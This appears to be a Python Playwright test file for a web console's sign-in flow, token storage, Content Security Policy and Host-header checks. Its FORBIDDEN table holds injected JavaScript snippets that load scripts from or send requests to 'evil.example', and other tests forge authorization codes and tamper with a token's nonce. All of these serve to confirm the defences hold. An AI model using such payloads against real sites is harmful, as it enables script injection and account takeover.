"""Getting in and out of the console with a browser, and what its page can never do."""

import base64
from collections.abc import Callable
from pathlib import Path

import pytest
from playwright.sync_api import Error, Route, expect

from infra.page import headers
from tests.console.conftest import Site, Visits
from tests.support.browsing import Visit

FORBIDDEN = {
    "an inline script": "const s = document.createElement('script'); s.textContent = 'window.ran = true';"
    "document.head.append(s);",
    "a script from elsewhere": "const s = document.createElement('script'); s.src = 'https://evil.example/x.js';"
    "document.head.append(s);",
    "an inline style": "document.body.setAttribute('style', 'color: red');",
    "a picture from elsewhere": "const i = new Image(); i.src = 'https://evil.example/x.png'; document.body.append(i);",
    "a request elsewhere": "fetch('https://evil.example/').catch(() => {});",
    "a frame": "const f = document.createElement('iframe'); f.src = '/'; document.body.append(f);",
    "another base": "const b = document.createElement('base'); b.href = 'https://evil.example/';"
    "document.head.append(b);",
    "a form that is sent": "const f = document.createElement('form'); f.action = '/';"
    "document.body.append(f); f.submit();",
}


def test_somebody_signs_in_looks_on_and_signs_out(visit: Visit, site: Site) -> None:
    visit.open()
    visit.sign_in("alice")
    sign_out = visit.page.get_by_role("button", name="Sign out")
    expect(sign_out).to_be_visible()
    address = visit.page.url

    visit.page.reload()
    expect(sign_out).to_be_visible()
    again = visit.page.url
    sign_out.click()
    visit.page.wait_for_url(f"{site.console}/signed-out")
    expect(visit.page.get_by_role("button", name="Sign in")).to_be_visible()
    visit.page.get_by_role("button", name="Sign in").click()

    # The issuer has forgotten them, too.
    expect(visit.page.get_by_label("Name")).to_be_visible()
    assert "code=" not in address + again
    assert "state=" not in address + again


def test_the_token_is_nowhere_but_in_memory(visit: Visit) -> None:
    tokens: list[str] = []
    addresses: list[str] = []
    visit.page.on("request", lambda request: addresses.append(request.url))
    visit.page.on(
        "request",
        lambda request: tokens.append(request.headers.get("authorization", "").removeprefix("Bearer ")),
    )
    visit.open()
    with visit.page.expect_response(lambda answer: "/v1/" in answer.url):
        visit.sign_in("alice")
    expect(visit.page.get_by_role("button", name="Sign out")).to_be_visible()
    kept = visit.page.evaluate(
        "JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie, location.href, history.state])"
    )

    (token,) = {token for token in tokens if token}
    assert token.count(".") == 2
    assert token not in kept
    assert kept.startswith('[{},{},"",')
    assert not [address for address in addresses if token in address]


@pytest.mark.parametrize("under_way", [False, True])
def test_a_code_that_was_not_asked_for_here_signs_nobody_in(visit: Visit, *, under_way: bool) -> None:
    asked: list[str] = []
    visit.page.on("request", lambda request: asked.append(request.url))
    if under_way:
        visit.open()
        expect(visit.page.get_by_label("Name")).to_be_visible()
    visit.open("/signed-in?code=stolen&state=made-up")

    expect(visit.page.get_by_role("button", name="Sign in")).to_be_visible()
    assert "stolen" not in visit.page.url
    assert not [address for address in asked if address.endswith("/token")]


def test_a_token_that_was_made_for_another_round_signs_nobody_in(visit: Visit) -> None:
    def of_another_round(route: Route) -> None:
        answer = route.fetch()
        told = answer.json()
        header, _, signature = told["id_token"].split(".")
        claims = base64.urlsafe_b64encode(b'{"nonce": "another"}').decode().rstrip("=")
        route.fulfill(response=answer, json={**told, "id_token": f"{header}.{claims}.{signature}"})

    asked: list[str] = []
    visit.page.on("request", lambda request: asked.append(request.url))
    visit.page.route("**/token", of_another_round)
    visit.open()
    visit.sign_in("alice")

    expect(visit.page.get_by_role("button", name="Sign in")).to_be_visible()
    assert [address for address in asked if address.endswith("/token")]
    assert not [address for address in asked if "/v1/" in address]


@pytest.mark.parametrize("what", FORBIDDEN)
def test_the_page_cannot_be_made_to_do(visit: Visit, what: str) -> None:
    visit.expects("Content Security Policy|Failed to load resource|ERR_BLOCKED|third party: GET https://evil")
    visit.open("/signed-out")
    expect(visit.page.get_by_role("button", name="Sign in")).to_be_visible()
    script = (
        "new Promise(done => { document.addEventListener('securitypolicyviolation', "
        f"e => done(e.effectiveDirective)); {FORBIDDEN[what]} setTimeout(() => done(null), 3000); }})"
    )

    violated = visit.page.evaluate(script)

    assert violated
    assert not visit.page.evaluate("'ran' in window")


def test_every_file_of_the_page_comes_with_what_it_may_do(visit: Visit, site: Site) -> None:
    answers: dict[str, dict[str, str]] = {}
    visit.page.on("response", lambda answer: answers.update({answer.url: answer.headers}))
    visit.open("/signed-out")
    expect(visit.page.get_by_role("button", name="Sign in")).to_be_visible()

    wanted = headers(connect=(next(iter(site.others)),))
    own = {url: sent for url, sent in answers.items() if url.startswith(site.console)}
    assert len(own) > 3
    for sent in own.values():
        assert wanted.keys() <= sent.keys()
        assert "unsafe" not in sent["content-security-policy"]


@pytest.mark.parametrize("colours", ["light", "dark"])
def test_the_sign_in_page_is_for_everybody(
    visits: Visits, colours: str, picture: Callable[[Visit, str], Path]
) -> None:
    visit = visits(color_scheme=colours)
    visit.open()
    expect(visit.page.get_by_label("Name")).to_be_focused()
    visit.accessible()
    picture(visit, f"sign-in-{colours}")
    visit.expects("400")

    visit.page.keyboard.type("two words")
    visit.page.keyboard.press("Enter")
    expect(visit.page.get_by_role("alert")).to_be_visible()
    visit.accessible()
    visit.page.get_by_label("Name").fill("bob")
    visit.page.keyboard.press("Enter")

    expect(visit.page.get_by_role("button", name="Sign out")).to_be_visible()


def test_the_first_view_is_light(visit: Visit) -> None:
    visit.open("/signed-out")
    expect(visit.page.get_by_role("button", name="Sign in")).to_be_visible()

    assert 1_000 < visit.sent < 100_000


def test_whoever_comes_by_another_name_finds_nothing(visit: Visit, site: Site) -> None:
    """A name that somebody has resolve to this machine: its pages are not to read what is here."""
    request = visit.page.context.request
    for name in ("evil.example", "127.0.0.1", "localhost", "[::1]:80"):
        answer = request.get(f"{site.console}/config.json", headers={"host": name})

        assert answer.status == 421
        assert "token_endpoint" not in answer.text()
    with pytest.raises(Error):
        request.get(site.console.replace("127.0.0.1", "[::1]"), timeout=2_000)
